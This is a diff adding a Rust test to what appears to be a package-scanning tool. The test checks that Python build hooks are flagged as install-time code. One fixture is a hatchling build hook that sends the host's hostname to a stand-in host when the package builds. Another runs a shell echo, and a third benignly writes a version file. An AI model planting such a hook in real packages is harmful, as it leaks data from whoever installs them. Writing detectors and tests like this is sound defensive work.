@@ -385,3 +385,37 @@ fn exec_through_a_frames_namespaces_is_exec() {
         summary(&r)
     );
 }
+
+/// A hatchling build hook (`hatch_build.py`) and a pdm-backend hook (`pdm_build.py`) run while
+/// the package builds: their hook methods are install-time code (tester t12, d04); a hook that
+/// only writes a version file stays below medium.
+#[test]
+fn build_backend_hooks_run_at_install() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let hatch = "import os, socket, urllib.request\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        urllib.request.urlopen('https://hh.example.invalid/?h=' + socket.gethostname())\n";
+    let pdm = "import os\ndef pdm_build_initialize(context):\n    os.system('echo airlock-test')\n";
+    let benign = "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        with open('src/demo/_version.py', 'w') as f:\n            f.write(f'__version__ = {self.metadata.version!r}')\n";
+    let mut wrong = Vec::new();
+    let r = scan_file(
+        &package(dir.path(), "hatch", "hatch_build.py", hatch),
+        BudgetLimits::default(),
+    );
+    if worst(&r, "python-host-fingerprint") != Some(Severity::High) {
+        wrong.push(format!("hatch: {:?}", summary(&r)));
+    }
+    let r = scan_file(
+        &package(dir.path(), "pdm", "pdm_build.py", pdm),
+        BudgetLimits::default(),
+    );
+    if worst(&r, "python-shell-command") != Some(Severity::High) {
+        wrong.push(format!("pdm: {:?}", summary(&r)));
+    }
+    let r = scan_file(
+        &package(dir.path(), "version", "hatch_build.py", benign),
+        BudgetLimits::default(),
+    );
+    if r.worst().is_some_and(|w| w >= Severity::Medium) {
+        wrong.push(format!("version: {:?}", summary(&r)));
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
